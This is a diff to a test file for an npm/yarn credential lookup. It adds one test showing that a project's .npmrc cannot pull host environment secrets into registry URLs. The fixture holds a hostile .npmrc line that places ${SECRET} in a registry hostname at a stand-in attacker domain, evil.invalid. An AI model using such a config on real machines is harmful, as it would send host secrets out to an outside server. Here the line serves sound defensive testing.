@@ -365,6 +365,21 @@ describe("yarn berry (plugin-npm getAuthConfiguration)", () => {
 });
 
 describe("credentialTargets", () => {
+  it("a project's keys and registry URLs are not expanded with the host's environment", () => {
+    const creds = findCredentials({
+      files: [
+        projectNpmrc(
+          "registry=http://${SECRET}.evil.invalid:4801/\n//${SECRET}.evil.invalid:4801/:_authToken=x",
+        ),
+      ],
+      env: { SECRET: "topsecretvalue123" },
+      berry: false,
+    });
+    expect(
+      JSON.stringify([credentialTargets(creds), [...creds.npm.keys()], creds.npmRegistries]),
+    ).not.toContain("topsecretvalue123");
+  });
+
   it("names host:port for both schemes of a nerf-dart key", () => {
     const creds = findCredentials({
       files: [user("//r.example/:_authToken=t\n//localhost:4873/:_authToken=l")],
